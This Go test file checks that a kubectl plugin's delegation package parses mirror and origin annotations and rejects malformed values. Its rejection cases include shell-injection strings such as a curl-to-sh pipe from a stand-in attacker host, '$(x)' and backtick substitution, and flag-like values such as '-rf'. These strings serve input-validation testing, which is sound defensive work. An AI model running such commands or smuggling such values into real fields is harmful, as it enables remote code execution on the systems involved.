package delegation_test

import (
	"strings"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
)

// TestMarks checks that an annotation either names an object or is returned as malformed.
func TestMarks(t *testing.T) {
	const uid = "0f5b6c2e-9a0e-4f43-9d3b-0f8f1f8f0b1a"
	long := strings.Repeat("a", 254)
	for value, isPlace := range map[string]bool{
		uid + "/ml/train/" + uid: true, "unknown/ml/train.v1/" + uid: true,
		uid + "/x; curl evil.example|sh #/other/m": false, uid + "/ml/train": false, uid + "/ml/train/" + uid + "/more": false,
		uid + "//train/" + uid: false, uid + "/ml//" + uid: false, uid + "/ml/train/": false, "/ml/train/" + uid: false,
		uid + "/ml/-rf/" + uid: false, uid + "/-A/train/" + uid: false, uid + "/ML/train/" + uid: false, uid + "/ml/trän/" + uid: false,
		uid + "/ml/tr`ain`/" + uid: false, uid + "/ml/$(x)/" + uid: false, uid + "/ml/train/a b": false, "a b/ml/train/" + uid: false,
		uid + "/ml/train\n/" + uid: false, uid + "/" + long + "/train/" + uid: false, uid + "/ml/" + long + "/" + uid: false, "hello": false,
	} {
		m := delegation.MarksOf(nil, map[string]string{delegation.MirrorAnnotation: value})
		assert.Assert(t, m != nil, value)
		if isPlace {
			assert.Equal(t, m.Mirror.String()+m.BadMirror, value)
		} else {
			assert.Assert(t, m.Mirror.IsZero() && m.BadMirror == value, "%q: %+v", value, m)
		}
	}
	m := delegation.MarksOf(nil, map[string]string{
		delegation.OriginAnnotation: uid + "/ml/train", delegation.PrebuiltWorkload: "job-train-97fc9", delegation.MultiKueueOriginUIDAnnotation: uid,
	})
	assert.DeepEqual(t, *m, delegation.Marks{
		Origin: delegation.Place{ClusterUID: uid, Namespace: "ml", Name: "train"}, Prebuilt: "job-train-97fc9", MultiKueueOriginUID: uid,
	})
	m = delegation.MarksOf(nil, map[string]string{
		delegation.OriginAnnotation: "x;y", delegation.PrebuiltWorkload: "-A", delegation.MultiKueueOriginUIDAnnotation: "$(x)",
	})
	assert.DeepEqual(t, *m, delegation.Marks{BadOrigin: "x;y"})
}
